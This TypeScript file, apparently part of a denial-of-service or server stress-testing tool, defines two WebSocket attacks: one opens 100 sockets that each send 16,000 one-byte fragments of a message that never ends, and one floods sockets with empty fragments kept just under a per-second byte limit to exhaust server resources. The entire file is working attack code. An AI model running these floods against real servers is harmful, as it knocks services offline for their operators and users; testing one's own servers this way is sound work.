// Attacks by WebSocket messages in many fragments.
import { setTimeout as pause } from 'node:timers/promises'
import { CONNECTIONS, goesOn, type Attack } from './attack.ts'
import { fragmentsOf, visitor } from './connection.ts'

const FRAGMENTS = 16_000
const SOCKETS = 100
/** Under what a socket may send in a second. */
const BYTES_A_SECOND = 600_000
const EVERY_MS = 10
const LOOK_MS = 100

export const fragments: Attack = {
  name: 'fragments',
  does: '100 sockets, each of which sends 16,000 fragments of a byte of a message that never ends.',
  isFlood: true,
  start: async ({ url, from }, signal, opened) => {
    const begun = fragmentsOf(FRAGMENTS, '3')
    await Promise.all(
      Array.from({ length: SOCKETS }, async () => {
        while (goesOn(signal)) {
          const connection = await visitor(url, from)
          opened(connection)
          connection.write(begun)
          while (connection.isOpen && goesOn(signal)) await pause(LOOK_MS)
          connection.end()
        }
      }),
    )
  },
}

export const fragmentFlood: Attack = {
  name: 'fragment-flood',
  does: 'Eight sockets that write empty fragments, no more bytes than a socket may send.',
  isFlood: true,
  start: async ({ url, from }, signal, opened) => {
    const some = fragmentsOf(1000, '')
    await Promise.all(
      Array.from({ length: CONNECTIONS }, async () => {
        while (goesOn(signal)) {
          const connection = await visitor(url, from)
          opened(connection)
          const beganAt = performance.now()
          for (let sent = 0; connection.isOpen && goesOn(signal);) {
            const due = (BYTES_A_SECOND * (performance.now() - beganAt)) / 1000
            for (; sent < due; sent += some.length) connection.write(some)
            await pause(EVERY_MS)
          }
          connection.end()
        }
      }),
    )
  },
}
